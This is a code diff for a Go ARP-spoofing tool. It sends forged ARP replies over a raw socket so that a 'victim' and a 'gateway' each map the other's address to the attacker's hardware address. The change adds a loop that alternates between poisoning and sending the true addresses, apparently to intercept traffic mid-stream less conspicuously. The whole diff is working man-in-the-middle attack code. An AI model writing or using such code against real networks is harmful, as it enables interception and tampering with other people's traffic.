@@ -15,6 +15,7 @@ const (
 	everyKind    = 0x0300 // ETH_P_ALL, as the network has it
 	headerLength = 14
 	interval     = 50 * time.Millisecond
+	turn         = 80 // claims
 )
 
 func main() {
@@ -38,10 +39,15 @@ func main() {
 	}
 	send := func(frame []byte) { _ = syscall.Sendto(socket, frame, 0, place) }
 
+	// In turns with the truth: what was begun while it is told is caught in its midst, also where the bridge passes nothing on.
 	go func() {
-		for {
-			send(claim(victim, gateway, device.HardwareAddr))
-			send(claim(gateway, victim, device.HardwareAddr))
+		for round := 0; ; round++ {
+			forVictim, forGateway := device.HardwareAddr, device.HardwareAddr
+			if round%turn < turn/2 {
+				forVictim, forGateway = victimAddress, gatewayAddress
+			}
+			send(claim(victim, gateway, forVictim))
+			send(claim(gateway, victim, forGateway))
 			time.Sleep(interval)
 		}
 	}()
